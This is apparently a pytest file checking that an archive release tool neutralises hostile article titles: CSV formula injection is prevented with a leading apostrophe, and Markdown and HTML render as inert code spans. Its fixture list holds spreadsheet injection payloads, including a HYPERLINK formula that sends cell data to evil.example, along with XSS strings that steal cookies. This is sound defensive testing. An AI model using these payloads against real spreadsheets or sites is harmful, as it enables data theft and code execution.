"""Hostile titles in a release: formulas stay text in ``metadata.csv``, markup stays text in
``CHANGES.md``; the tables keep the titles as the site wrote them.

The archive is a copy of the session's crawl whose records carry the titles a hostile site
would serve (the release reads the records of ``articles.jsonl``; the WARC files are the crawl's).
"""

from __future__ import annotations

import csv
import html
import json
import os
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from ifes_archive.archive.release.escape import code_span, spreadsheet_cell
from tests.conftest import build_release_cli

markdown_it = pytest.importorskip("markdown_it")

HOSTILE = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the full text")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed=1+1",
    "<img src=x onerror=alert(document.cookie)>",
    "[Read the full text](javascript:alert(1)) or https://evil.example/phish",
    "A `code` title with ``` fences and *stars* _under_ ![img](http://evil.example/i.png)",
    "`starts and ends with backticks`",
    "Two\nlines <script>alert(1)</script>\n\n- and a list item",
]


def _escaped(text: str) -> str:
    """Return ``text`` as markdown-it writes it in HTML (``'`` as it is)."""
    return html.escape(text, quote=False).replace('"', "&quot;")


@pytest.fixture(scope="module")
def hostile(crawl, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[int, str]]:
    """The release of a copy of the crawl whose first articles carry hostile titles."""
    root = tmp_path_factory.mktemp("hostile")
    archive = root / "archive"
    (archive / "warc").mkdir(parents=True)
    for warc in crawl.warc_files:
        os.link(warc, archive / "warc" / warc.name)
    records = crawl.records()
    ids = sorted({r["article_id"] for r in records})[:len(HOSTILE)]
    titles = dict(zip(ids, HOSTILE, strict=True))
    with open(archive / "articles.jsonl", "w", encoding="utf-8") as stream:
        for record in records:
            if record["article_id"] in titles:
                record["title"] = titles[record["article_id"]]
            stream.write(json.dumps(record, ensure_ascii=False) + "\n")
    out = root / "release"
    assert build_release_cli(archive, out) == 0
    return out, titles


def test_metadata_csv_cells_do_not_start_a_formula(hostile: tuple[Path, dict[int, str]]) -> None:
    out, titles = hostile
    with open(out / "metadata.csv", encoding="utf-8-sig", newline="") as stream:
        rows = {int(row["id"]): row for row in csv.DictReader(stream)}
    for article_id, title in titles.items():
        cell = rows[article_id]["title"]
        assert cell == ("'" + title if title[0] in "=+-@\t\r" else title), cell
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in rows.values() for value in row.values())


def test_the_tables_keep_the_titles_as_written(hostile: tuple[Path, dict[int, str]]) -> None:
    out, titles = hostile
    lines = (out / "data" / "articles" / "articles.jsonl").read_text(encoding="utf-8").splitlines()
    as_json = {r["article_id"]: r["title"] for r in map(json.loads, lines)}
    table = pq.read_table(out / "data" / "articles" / "articles-00000-of-00001.parquet", columns=["article_id", "title"])
    as_parquet = dict(zip(table["article_id"].to_pylist(), table["title"].to_pylist(),
                          strict=True))
    for article_id, title in titles.items():
        assert as_json[article_id] == title and as_parquet[article_id] == title


def test_changes_md_shows_titles_and_makes_nothing_of_them(
        hostile: tuple[Path, dict[int, str]]) -> None:
    out, titles = hostile
    changes = (out / "CHANGES.md").read_text(encoding="utf-8")
    rendered = markdown_it.MarkdownIt("commonmark", {"html": True}).render(changes)
    for tag in ("<a ", "<img", "<script", "<em>", "<strong>", "<ul>\n<li>and"):
        assert tag not in rendered, tag
    for title in titles.values():
        shown = _escaped(" ".join(title.split()))
        assert f"<code>{shown}</code>" in rendered, title
    card = (out / "README.md").read_text(encoding="utf-8")
    assert "OWASP" in card and "has a `'` put in front" in card


@pytest.mark.parametrize("text", ["plain", "`", "``", "a ` b `` c", " `x` ", "|pipe|",
                                  "line\r\nbreak\u2028and\x1bescape"])
def test_a_code_span_renders_as_its_text(text: str) -> None:
    rendered = markdown_it.MarkdownIt("commonmark").renderInline(code_span(text))
    flat = " ".join("".join(c if c.isprintable() else " " for c in text).split())
    assert rendered == f"<code>{_escaped(flat)}</code>"


def test_spreadsheet_cell_leaves_other_text_alone() -> None:
    assert spreadsheet_cell("Japan = 1") == "Japan = 1"
    assert spreadsheet_cell("-") == "'-"
    assert spreadsheet_cell("") == ""
